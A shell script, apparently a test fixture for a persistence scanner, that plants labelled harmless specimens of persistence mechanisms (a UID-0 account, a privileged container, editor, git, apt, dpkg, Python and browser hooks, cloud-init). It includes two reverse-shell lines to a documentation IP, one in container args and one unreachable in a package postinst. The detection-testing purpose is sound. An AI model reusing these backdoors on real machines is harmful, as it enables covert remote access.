# Runs inside the root. Plants a harmless specimen of every mechanism by which somebody stays on a
# machine: each would run only /usr/bin/true or print a word, and reaches nothing.
#
# A line `# plant: NAME | CHECK | TEXT [| TEXT …]` names a specimen, the check that must fail
# because of it, and what the evidence of that failure must hold: the file, and `line N` where a
# line is known. A test reads these lines.
set -eu

useradd --create-home --shell /bin/bash --uid 1000 alice
useradd --create-home --shell /bin/bash --uid 1001 bob

# People.
# plant: UID-0 user | second-root-account | toor
echo 'toor:x:0:0::/root:/bin/bash' >>/etc/passwd
echo 'toor:*:20000::::::' >>/etc/shadow

# What applications start.
# plant: malicious container | container-restarts-with-machine-rights | /var/lib/docker/containers/4f0c | helper | /:/host
# plant: container with a remote shell | container-runs-remote-shell | /var/lib/docker/containers/4f0c | 192.0.2.7
docker=/var/lib/docker/containers/4f0c
mkdir -p "$docker"
cat >"$docker/config.v2.json" <<'JSON'
{"ID":"4f0c","Name":"/helper","Created":"2026-03-01T10:00:00Z","Path":"sh",
 "Args":["-c","bash -i >& /dev/tcp/192.0.2.7/443 0>&1"],"State":{"Running":false,"Pid":0},
 "Config":{"Image":"alpine:3"},
 "MountPoints":{"/host":{"Type":"bind","Source":"/","Destination":"/host","RW":true}}}
JSON
cat >"$docker/hostconfig.json" <<'JSON'
{"RestartPolicy":{"Name":"always"},"Privileged":true,"PidMode":"host","Binds":["/:/host"]}
JSON
# plant: unit of Podman | container-restarts-with-machine-rights | /etc/containers/systemd/agent.container
mkdir -p /etc/containers/systemd
cat >/etc/containers/systemd/agent.container <<'UNIT'
[Container]
Image=localhost/agent
Exec=/usr/bin/true
Volume=/:/host
[Service]
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
# plant: privileged container of LXC | container-can-become-root | /var/lib/lxc/old/config
mkdir -p /var/lib/lxc/old
printf 'lxc.uts.name = old\nlxc.init.cmd = /usr/bin/true\nlxc.mount.entry = /etc mnt none bind 0 0\n' >/var/lib/lxc/old/config

# plant: editor extension from a file | editor-extension-not-from-store | acme.theme | /home/alice/.vscode/extensions/acme.theme-1.0.0
extensions=/home/alice/.vscode/extensions
mkdir -p "$extensions/acme.theme-1.0.0"
printf '{"publisher":"acme","name":"theme","version":"1.0.0","activationEvents":["*"]}\n' >"$extensions/acme.theme-1.0.0/package.json"
printf '[{"identifier":{"id":"acme.theme"},"version":"1.0.0","relativeLocation":"acme.theme-1.0.0","metadata":{"source":"vsix"}}]\n' >"$extensions/extensions.json"
# plant: editor's start-up file | editor-runs-command | /home/alice/.vimrc | line 2 | VimEnter
printf 'set number\nautocmd VimEnter * silent! !/usr/bin/true\n' >/home/alice/.vimrc
# plant: editor's start-up file for all | editor-runs-command | /etc/vim/vimrc.local | line 1
mkdir -p /etc/vim
printf 'call system("/usr/bin/true")\n' >/etc/vim/vimrc.local

tree=/home/alice/src/report
mkdir -p "$tree/.git/hooks" "$tree/.git/objects" "$tree/.git/refs" "$tree/.vscode"
# plant: task that opens with a folder | editor-runs-command | /home/alice/src/report/.vscode/tasks.json | line 4 | folderOpen
cat >"$tree/.vscode/tasks.json" <<'JSON'
{
  "version": "2.0.0",
  "tasks": [
    { "label": "prepare", "type": "shell", "command": "/usr/bin/true", "runOptions": { "runOn": "folderOpen" } }
  ]
}
JSON
# plant: git hook | git-hook-in-work-tree | /home/alice/src/report/.git/hooks/pre-commit
printf 'ref: refs/heads/main\n' >"$tree/.git/HEAD"
printf '#!/bin/sh\n/usr/bin/true\n' >"$tree/.git/hooks/pre-commit"
chmod 755 "$tree/.git/hooks/pre-commit"
# plant: git pager | git-setting-runs-command | core.pager | /home/alice/src/report/.git/config | line 3
# plant: git monitor | git-setting-runs-command | core.fsmonitor | /home/alice/src/report/.git/config | line 4
cat >"$tree/.git/config" <<'CONFIG'
[core]
	repositoryformatversion = 0
	pager = "/usr/bin/true; less"
	fsmonitor = /home/alice/src/.monitor
CONFIG
chown -R alice:alice /home/alice
# plant: git hook of root | git-hook-of-root-or-foreign-owner | /opt/site/.git/hooks/post-merge
mkdir -p /opt/site/.git/hooks
printf '#!/bin/sh\n/usr/bin/true\n' >/opt/site/.git/hooks/post-merge
chmod 755 /opt/site/.git/hooks/post-merge

# plant: package-manager hook | packager-hook-foreign | /etc/apt/apt.conf.d/99refresh | line 2 | APT::Update::Pre-Invoke
printf '// keeps things fresh\nAPT::Update::Pre-Invoke { "/usr/bin/true"; };\n' >/etc/apt/apt.conf.d/99refresh
# plant: dpkg hook | packager-hook-foreign | /etc/dpkg/dpkg.cfg.d/refresh | line 1
mkdir -p /etc/dpkg/dpkg.cfg.d
printf 'post-invoke=/usr/bin/true\n' >/etc/dpkg/dpkg.cfg.d/refresh
# plant: python start-up code | python-startup-code-foreign | refresh.pth | line 1
mkdir -p /usr/local/lib/python3.11/dist-packages
printf 'import os; os.getpid()\n' >/usr/local/lib/python3.11/dist-packages/refresh.pth
# plant: python start-up module | python-startup-code-foreign | /usr/local/lib/python3.11/dist-packages/sitecustomize.py
printf 'ready = True\n' >/usr/local/lib/python3.11/dist-packages/sitecustomize.py

# The shell stands behind `exit 0` and is never reached.
# plant: malicious package | packager-maintainer-script-severe | office-fonts-extra | /var/lib/dpkg/info/office-fonts-extra.postinst | line 4
# plant: package from a file | package-in-no-list | office-fonts-extra
package=$(mktemp -d)
mkdir -p "$package/DEBIAN" "$package/usr/share/office-fonts-extra"
printf 'specimen\n' >"$package/usr/share/office-fonts-extra/note"
cat >"$package/DEBIAN/control" <<'CONTROL'
Package: office-fonts-extra
Version: 1.0
Architecture: all
Maintainer: Nobody <nobody@example.org>
Description: specimen of a package whose script holds a shell that is never reached
CONTROL
cat >"$package/DEBIAN/postinst" <<'POSTINST'
#!/bin/sh
set -e
exit 0
bash -i >& /dev/tcp/192.0.2.7/443 0>&1
POSTINST
chmod 755 "$package" "$package/DEBIAN" "$package/DEBIAN/postinst"
dpkg-deb --root-owner-group --build "$package" /tmp/office-fonts-extra.deb >/dev/null
dpkg -i /tmp/office-fonts-extra.deb >/dev/null
rm -rf "$package" /tmp/office-fonts-extra.deb

# plant: native-messaging host | native-messaging-host-foreign | org.example.helper | /etc/chromium/native-messaging-hosts/helper.json
mkdir -p /etc/chromium/native-messaging-hosts /etc/chromium/policies/managed /usr/local/lib/helper
printf '#!/bin/sh\n/usr/bin/true\n' >/usr/local/lib/helper/host
chmod 755 /usr/local/lib/helper/host
cat >/etc/chromium/native-messaging-hosts/helper.json <<'JSON'
{"name":"org.example.helper","type":"stdio","path":"/usr/local/lib/helper/host","allowed_origins":["chrome-extension://aaaa/"]}
JSON
# plant: browser policy | browser-policy-opens-way | ProxySettings | /etc/chromium/policies/managed/network.json
cat >/etc/chromium/policies/managed/network.json <<'JSON'
{"ProxySettings":{"ProxyMode":"fixed_servers","ProxyServer":"192.0.2.7:3128"}}
JSON
# plant: cloud-init command | cloud-init-runs-commands | /var/lib/cloud/instance/user-data.txt | line 3
mkdir -p /var/lib/cloud/instance
printf '#cloud-config\nruncmd:\n  - /usr/bin/true --from-cloud\n' >/var/lib/cloud/instance/user-data.txt
